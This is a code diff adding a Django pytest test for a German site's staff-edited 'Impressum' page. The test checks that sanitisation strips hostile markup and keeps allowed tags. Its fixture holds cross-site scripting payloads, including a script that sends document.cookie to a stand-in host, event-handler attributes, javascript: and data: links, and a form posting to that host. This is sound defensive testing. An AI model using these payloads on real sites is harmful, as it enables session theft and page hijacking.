@@ -6,6 +6,8 @@ import logging
 import pytest
 from django.conf import settings as django_settings
 from django.contrib.auth import get_user_model
+from django.contrib.flatpages.models import FlatPage
+from django.contrib.sites.models import Site
 from django.core.cache import cache
 from django.core.management import CommandError, call_command
 
@@ -267,3 +269,73 @@ def test_signing_out_renews_the_csrf_token(client):
     assert "contact_person" not in client.session
     assert django_settings.CSRF_COOKIE_NAME in response.cookies
     assert client.cookies[django_settings.CSRF_COOKIE_NAME].value != before
+
+
+# --- site pages (flat pages edited by staff) --------------------------------------------------
+
+HOSTILE_PAGE = """
+<meta http-equiv="refresh" content="0; url=https://evil.example.org/">
+<script>document.location = "https://evil.example.org/?" + document.cookie</script>
+<style>body { display: none }</style>
+<h2 onclick="steal()">Anbieter</h2>
+<p style="position: fixed; inset: 0">Deutsches Institut für <abbr title="Urbanistik">Urb.</abbr></p>
+<p><img src="x" onerror="steal()"><iframe src="https://evil.example.org/"></iframe>
+<svg onload="steal()"></svg><form action="https://evil.example.org/"><input name="pw"></form></p>
+<p><a href="javascript:steal()">Klick</a>
+<a href="data:text/html,<script>steal()</script>">Daten</a>
+<a href=" JaVaScRiPt:steal()">Versteckt</a> <a href="vbscript:steal()">VB</a></p>
+<p><a href="https://difu.de/" onmouseover="steal()" target="_blank">Difu</a>
+<a href="mailto:info@difu.de">Mail</a> <a href="/datenschutz/">Datenschutz</a></p>
+<ul><li><strong>fett</strong> <em>kursiv</em><br></li></ul><ol><li>eins</li></ol>
+<table><thead><tr><th scope="col">Tag</th></tr></thead><tbody><tr><td>Mo</td></tr></tbody></table>
+"""
+
+
+@pytest.mark.django_db
+def test_site_pages_render_only_the_allowed_markup(client):
+    page, _ = FlatPage.objects.update_or_create(
+        url="/impressum/", defaults={"title": "Impressum", "content": HOSTILE_PAGE}
+    )
+    page.sites.add(Site.objects.get_current())
+
+    response = client.get("/impressum/")
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    body = html[html.index("<article") : html.index("</article>")]
+    for hostile in [
+        "<meta",
+        "<script",
+        "document.cookie",
+        "<style",
+        "display: none",
+        "onclick",
+        "onerror",
+        "onload",
+        "onmouseover",
+        "style=",
+        "<img",
+        "<iframe",
+        "<svg",
+        "<form",
+        "<input",
+        "javascript:",
+        "JaVaScRiPt",
+        "data:text",
+        "vbscript:",
+        "target=",
+        "steal()",
+    ]:
+        assert hostile not in body, hostile
+    for allowed in [
+        "<h2>Anbieter</h2>",
+        '<abbr title="Urbanistik">Urb.</abbr>',
+        '<a href="https://difu.de/" rel="noopener noreferrer">Difu</a>',
+        '<a href="mailto:info@difu.de" rel="noopener noreferrer">Mail</a>',
+        '<a href="/datenschutz/" rel="noopener noreferrer">Datenschutz</a>',
+        "<strong>fett</strong> <em>kursiv</em><br>",
+        "<ol><li>eins</li></ol>",
+        '<th scope="col">Tag</th>',
+        "<td>Mo</td>",
+    ]:
+        assert allowed in body, allowed
